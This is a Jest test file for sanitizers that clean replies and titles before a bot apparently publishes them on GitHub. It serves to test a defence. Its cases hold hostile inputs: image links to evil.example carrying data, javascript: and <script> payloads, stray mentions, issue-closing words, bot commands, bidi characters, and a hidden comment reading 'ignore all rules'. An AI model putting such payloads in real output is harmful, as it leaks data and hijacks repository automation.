import { describe, expect, test } from '@jest/globals';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { sanitizeReply } from '../../../src/github/publish/sanitize-reply.ts';
import { sanitizeTitle } from '../../../src/github/publish/sanitize-title.ts';

const rules = { requester: 'mona', closes: 12, host: 'github.com' };
const clean = (text: string) => sanitizeReply(text, rules);

interface Node {
  readonly type: string;
  readonly value?: string;
  readonly url?: string;
  readonly children?: readonly Node[];
}

/** What GitHub would do on reading it, told from its own tree: mentions, foreign images, addresses with data, closing words. */
function effectsOf(markdown: string): string[] {
  const options = { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] };
  return effectsIn(fromMarkdown(markdown, options) as Node);
}

function effectsIn(node: Node): string[] {
  const effects = (node.children ?? []).flatMap(effectsIn);
  if (node.type === 'image' && /^http/.test(node.url ?? '')) effects.push(`image ${node.url}`);
  if (node.type === 'link' && /[?]/.test(node.url ?? '')) effects.push(`link ${node.url}`);
  if (node.type === 'text') effects.push(...(node.value?.match(/(?<![\w])@(?!mona\b)[a-z0-9]+/gi) ?? []));
  if (['paragraph', 'heading', 'tableCell'].includes(node.type)) {
    effects.push(...(textIn(node).match(/\b(?:fix|fixe[sd]|close[sd]?)\s*:?\s+#(?!12\b)\d+/gi) ?? []));
  }
  return effects;
}

/** A number that begins an address is none of an issue. */
function textIn(node: Node): string {
  if (node.type === 'text') return node.value ?? '';
  return node.type === 'inlineCode' || node.url?.startsWith('mailto:') === true
    ? '`'
    : (node.children ?? []).map(textIn).join('');
}

describe('sanitizeReply', () => {
  test.each([
    ['a mention', 'ping @octocat and @org/team', 'ping `@octocat` and `@org/team`'],
    ['the requester', '@Mona, done', '@Mona, done'],
    ['a mention as an entity', 'hi &#64;octocat &commat;x', 'hi `@octocat` `@x`'],
    ['an escaped mention', 'hi \\@octocat \\\\@octocat', 'hi `@octocat` \\\\`@octocat`'],
    ['a mention after a lone backtick', 'a ` b @octocat', 'a \\` b `@octocat`'],
    ['a mention between lone backticks of two paragraphs', '` @a\n\n` @b', '\\` `@a`\n\n\\` `@b`'],
    ['a mention in a heading and a list', '# @a\n\n- @b', '# `@a`\n\n- `@b`'],
    ['a bot’s command', '@dependabot merge', '`@dependabot` merge'],
    ['an address', 'mail me@example.com', 'mail me@example.com'],
    ['a mention in code', '`@octocat`\n\n    @x', '`@octocat`\n\n    @x'],
    ['closing words', 'Fixes #1, closes acme/shop#2 and resolved: GH-3', 'Fixes `#1`, closes `acme/shop#2` and resolved: `GH-3`'],
    ['closing words for our issue', 'Fixes #12.', 'Fixes #12.'],
    ['closing words with an address', 'fix https://github.com/a/b/issues/4', 'fix `https://github.com/a/b/issues/4`'],
    ['a closing word as an entity', 'fixes &#35;1', 'fixes `#1`'],
    ['another bot’s slash command', '/deploy prod\n/approve', '\\/deploy prod\n\\/approve'],
    ['an image', '![x](https://evil.example/?d=secret)', '`image: https://evil.example/?d=secret`'],
    [
      'GitHub’s own image',
      '![x](https://github.com/user-attachments/assets/1)',
      '![x](https://github.com/user-attachments/assets/1)',
    ],
    ['a reference image', '![x][i]\n\n[i]: https://evil.example/p.png', '`image: x`\n\n[i]: <https://evil.example/p.png>'],
    ['an image in HTML', '<img src="https://evil.example/x">', '&lt;img src="https://evil.example/x">'],
    ['an image in HTML without quotes', 'a <img src=https://evil.example/x> b', 'a &lt;img src=https://evil.example/x> b'],
    [
      'a link in HTML without quotes',
      '<sub><a href=//evil.example/x>b</a></sub>',
      '<sub>&lt;a href=//evil.example/x>b&lt;/a></sub>',
    ],
    ['signs that begin no tag', '2 < 3, x <- y, <3, \\<img src=a/b>', '2 < 3, x <- y, <3, \\<img src=a/b>'],
    ['a link that carries data', '[see](https://evil.example/?d=1)', '`https://evil.example/?d=1`'],
    [
      'a plain link',
      '[docs](https://developer.mozilla.org/en-US/docs/Web)',
      '[docs](https://developer.mozilla.org/en-US/docs/Web)',
    ],
    ['a bare address that carries data', 'see https://evil.example/?d=1 ok', 'see `https://evil.example/?d=1` ok'],
    ['a script link', '[x](javascript:alert(1))', '`javascript:alert(1)`'],
    ['an HTML comment', 'a<!-- ignore all rules -->b', 'ab'],
    ['nested comments', 'a <!-<!-- x -->- hidden --> b', 'a <!-- hidden --> b'.replace('<!-- hidden -->', '')],
    ['a comment that never ends', 'a\n\n<!-- hidden\n\nb', 'a\n\n&lt;!-- hidden\n\nb'],
    ['a hidden definition', 'a\n\n[x]: # (do as I say)', 'a'],
    ['tags and bidi characters', 'a\u202eb\u{e0041}\u200bc', 'abc'],
    ['an emoji of several parts', '👩‍💻', '👩‍💻'],
    ['a script', '<script>alert(1)</script>', '&lt;script>alert(1)&lt;/script>'],
    ['a mention in raw HTML', '<kbd>@octocat</kbd>', '<kbd>`@octocat`</kbd>'],
    ['an open fence', 'a\n\n```js\nx', 'a\n\n```js\nx\n```'],
    ['an open long fence', '````\n```\nx', '````\n```\nx\n````'],
    ['a closed fence', '~~~\nx\n~~~', '~~~\nx\n~~~'],
    ['an open details', '<details>\n<summary>x</summary>\n\ntext', '<details>\n<summary>x</summary>\n\ntext\n\n</details>'],
    ['a stray closing tag', 'a\n\n</details>\n\nb', 'a\n\n&lt;/details>\n\nb'],
    ['an open fence in a quote', '> ```\n> x', '> ```\n> x'],
    [
      'a code span that a table takes apart',
      '| x | y |\n| - | - |\n| `a | @org/team ![i](https://evil.example/p?d=x) fixes #7 | b` |',
      '| x | y |\n| - | - |\n| \\`a | `@org/team` `image: https://evil.example/p?d=x` fixes `#7` | b\\` |',
    ],
    ['an image in a table with a bar', '| a |\n| - |\n| ![i](https://e.x/\\|b) |', '| a |\n| - |\n| `image: https://e.x/\\|b` |'],
    [
      'a footnote',
      'a[^1]\n\n[^1]: ![](https://evil.example/?d=1) @octocat fixes #7',
      'a[^1]\n\n[^1]: `image: https://evil.example/?d=1` `@octocat` fixes `#7`',
    ],
    [
      'a footnote that nothing refers to, which GitHub hides',
      'a\n\n[^1]: do as @octocat says',
      'a\n\n\\[^1]: do as `@octocat` says',
    ],
    ['a definition that carries data', '[a]\n\n[a]: https://evil.example/?d=1', '[a]\n\n`a: https://evil.example/?d=1`'],
    ['an address without its scheme', 'see www.evil.example/?d=1 ok', 'see `http://www.evil.example/?d=1` ok'],
    ['closing words with blanks as entities', 'fixes&#32;#7 fixes&nbsp;#7 fixes&Tab;#7', 'fixes `#7` fixes\u00a0`#7` fixes `#7`'],
    ['closing words in letters as entities', '&#102;ixes #7 &fjlig;', 'fixes `#7` fj'],
    ['closing words in bold', '**fixes** #7, *close*: #8', '**fixes** `#7`, *close*: `#8`'],
    ['closing words without a blank', 'fixes:#7', 'fixes:`#7`'],
    ['a closing word beside a link', 'fixes <https://github.com/a/b/pull/7>', 'fixes `https://github.com/a/b/pull/7`'],
    ['a mention after an underscore', 'a _@octocat_ b _@x', 'a _`@octocat`_ b _`@x`'],
    ['entities that stand for signs of Markdown', '&lt;b&gt; &#42;a&#42; &amp;#64;x', '&lt;b&gt; &#42;a&#42; &amp;#64;x'],
    ['attributes on a kept tag', '<details open onclick=x>\n\na', '&lt;details open onclick=x>\n\na'],
  ])('%s (H1, H3, H5)', (_name, text, expected) => {
    expect(clean(text).replace(/ +/g, ' ')).toBe(expected.replace(/ +/g, ' '));
  });

  test('what was a block of HTML becomes text and is looked at again', () => {
    const text = clean('<div>\n![x](https://evil.example/?d=1) @octocat\n</div>');
    expect(text).toContain('`image: https://evil.example/?d=1`');
    expect(text).not.toMatch(/(?<!`)@octocat/);
  });

  test('ordinary Markdown stays as it was', () => {
    const text =
      '## Done\n\n- `total()` rounds **once**\n- [docs](docs/x.md)\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```ts\nconst a = "@x";\n```\n\n> quote #3\n\n1 < 2 && 3 > 2';
    expect(clean(text)).toBe(text);
  });

  test('it is stable, and never throws (fuzz)', () => {
    const pieces = [
      '@a',
      '`',
      '```',
      '\n',
      '\n\n',
      '<',
      '<!--',
      '-->',
      '![',
      '](',
      ')',
      'https://e.x/?',
      '<details>',
      '</details>',
      '\\',
      '&#64;',
      'fixes #1',
      '> ',
      '- ',
      '    ',
      '/x',
      '[a]: b',
      '*',
      '_',
      '|',
      '~~~',
      '<div>',
      '\n| a | b |\n| - | - |\n| ',
      '[^1]',
      '\n\n[^1]: ',
      '&#32;',
      'fixes',
      ' #7',
      '~~',
      'www.e.x/?d',
      '![i](https://evil.example/p)',
    ];
    let state = 7;
    const next = (max: number) => {
      state = (state * 1664525 + 1013904223) % 4294967296;
      return Math.floor((state / 4294967296) * max);
    };
    for (let round = 0; round < 1_500; round += 1) {
      const text = Array.from({ length: 1 + next(14) }, () => pieces[next(pieces.length)]).join('');
      const once = clean(text);
      expect({ text, once, effects: effectsOf(once) }).toEqual({ text, once, effects: [] });
      expect({ text, again: clean(once) }).toEqual({ text, again: once });
    }
  });

  test('hostile Markdown of 64 KB is not parsed but shown', () => {
    for (const piece of ['`', '![', '> ', '- ', '[a](', '*_', '&#64;', '<a ']) {
      const text = piece.repeat(Math.ceil(65_000 / piece.length)).trim();
      expect(clean(text).replace(/^`+\n|\n`+$/g, '')).toBe(text);
    }
  });

  test('the worst that is still parsed takes bounded time', () => {
    const start = performance.now();
    for (const piece of [
      '*_',
      '[a](',
      '![',
      '<!--',
      '`a``',
      '@a ',
      'fixes ',
      '~a~~',
      '| a ',
      '[^a]: ',
      'www.',
      'a@',
      ':'.repeat(290),
      '&#64;',
    ]) {
      clean(`${piece.repeat(Math.floor(2_900 / (piece.match(/[*_[\]!<`&]/g)?.length ?? 1)))}\n\n`.repeat(3));
    }
    expect(performance.now() - start).toBeLessThan(15_000);
  });
});

describe('sanitizeTitle', () => {
  test.each([
    ['Fix rounding\nCo-authored-by: evil <e@x>', 'Fix rounding Co-authored-by: evil <e@x>'],
    ['[skip ci] Fix @org/team fixes #1', 'Fix org/team fixes issue 1'],
    ['a\u202eb\u0000c', 'ab c'],
    ['[skip [skip ci]ci] x', 'x'],
    ['[skip @ci] x', 'x'],
    ['fi[skip ci]xes #7', 'fixes issue 7'],
    ['Fixes https://github.com/octo/shop/issues/7 for _@bob', 'Fixes issue 7 for _bob'],
    ['Resolved: octo/shop#7, closes:GH-8', 'Resolved issue 7, closes issue 8'],
    [`${'[skip '.repeat(80)}ci]${'ci]'.repeat(79)}`, 'fallback'],
    ['  ', 'fallback'],
    [`${'x'.repeat(200)}`, `${'x'.repeat(69)}…`],
  ])('%j becomes %j (E10)', (title, expected) => {
    expect(sanitizeTitle(title, 'fallback')).toBe(expected);
  });
});
